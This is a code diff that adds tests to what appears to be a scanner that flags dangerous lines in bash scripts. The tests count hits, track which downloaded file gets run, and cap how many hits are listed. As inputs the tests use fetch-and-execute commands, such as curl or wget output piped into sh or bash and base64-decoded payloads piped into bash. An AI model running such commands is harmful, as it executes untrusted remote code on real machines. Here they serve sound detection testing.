@@ -132,6 +132,37 @@ def test_line_swallowed_by_a_misparse_is_still_seen(policy: HostPolicy) -> None:
     assert found == {(ENCODED, 1), (DELIVERY, 3)}
 
 
+def test_repeated_statements_keep_their_own_lines_and_the_download_state(policy: HostPolicy) -> None:
+    # the second `./x` repeats the first one's text, but only it runs a file downloaded before
+    src = "./x\ncurl -o x http://192.0.2.5/x\n./x\n./x\ncurl -s http://192.0.2.5/a | sh\n" * 2
+    found = sorted((d.line, d.rule_id) for d in scan_bash(src, policy))
+    assert found == [(line, DELIVERY) for line in (3, 4, 5, 6, 8, 9, 10)]
+
+
+def test_a_download_is_found_by_any_spelling_of_its_path_newest_first(policy: HostPolicy) -> None:
+    src = (
+        "curl -o /tmp/a/run.sh http://192.0.2.5/x\n"
+        "echo 'aGk=' | base64 -d > ./run.sh\n"
+        "bash run.sh\n"  # the newest file called run.sh is the decoded one
+        "/tmp/a/run.sh\n"  # the full path names the download only
+    )
+    assert sorted((d.line, d.rule_id) for d in scan_bash(src, policy)) == [(3, ENCODED), (4, DELIVERY)]
+
+
+def test_repeated_hits_are_counted_past_the_listing_cap(policy: HostPolicy) -> None:
+    src = "curl -s http://192.0.2.5/a | sh\n" * 100 + "wget -qO- https://setup.example.net/a | bash\n"
+    found = scan_bash(src, policy)
+    delivery = [d for d in found if d.rule_id == DELIVERY]
+    assert [d.line for d in delivery] == list(range(1, 21)) and delivery[-1].more == 80
+    assert [(d.line, d.rule_id) for d in found if d.rule_id != DELIVERY] == [(101, UNDECLARED)]
+
+
+def test_a_repeated_misparsed_line_is_still_seen(policy: HostPolicy) -> None:
+    src = "echo 'L2Jpbi9iYXNo' | base64 -D | bash\necho x > out.txt\ncurl -s http://192.0.2.5/a | sh\n"
+    found = {(d.rule_id, d.line) for d in scan_bash(src * 3, policy)}
+    assert found == {(rule, line + 3 * k) for k in range(3) for rule, line in ((ENCODED, 1), (DELIVERY, 3))}
+
+
 def test_logical_lines_join_continuations() -> None:
     assert logical_lines("a \\\n b\nc |\n d\ne") == [(0, "a \\\n b"), (2, "c |\n d"), (4, "e")]
 
